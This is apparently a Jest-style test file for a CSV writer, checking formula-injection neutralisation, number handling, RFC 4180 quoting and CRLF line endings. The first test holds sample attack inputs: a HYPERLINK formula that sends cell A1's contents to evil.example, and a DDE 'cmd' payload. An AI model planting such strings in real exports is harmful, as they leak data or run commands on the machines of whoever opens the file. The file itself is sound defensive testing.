import { csvCell, toCsv } from './csv';

describe('the CSV writer', () => {
  it('neutralises a text cell that starts like a formula (= + - @, tab, CR, LF) with a leading single quote', () => {
    expect(csvCell('=HYPERLINK("https://evil.example/?x="&A1,"click")')).toBe(`"'=HYPERLINK(""https://evil.example/?x=""&A1,""click"")"`);
    expect(csvCell("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(csvCell('\t=1+1')).toBe("'\t=1+1");
    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(csvCell('-Anna')).toBe("'-Anna");
  });

  it('writes number cells as numbers: a negative amount stays a number', () => {
    expect(csvCell(-120)).toBe('-120');
    expect(csvCell(0.8421)).toBe('0.8421');
    expect(() => csvCell(Number.NaN)).toThrow(/finite/);
  });

  it('leaves ordinary text alone and quotes commas, quotes and line breaks (RFC 4180)', () => {
    expect(csvCell('2026-12')).toBe('2026-12');
    expect(csvCell('张三 = 会员')).toBe('张三 = 会员');
    expect(csvCell('Smith, Anna')).toBe('"Smith, Anna"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell(null)).toBe('');
  });

  it('writes CRLF-terminated lines', () => {
    expect(
      toCsv([
        ['name', 'points'],
        ['=1+1', -5],
        [null, 3],
      ]),
    ).toBe("name,points\r\n'=1+1,-5\r\n,3\r\n");
  });
});
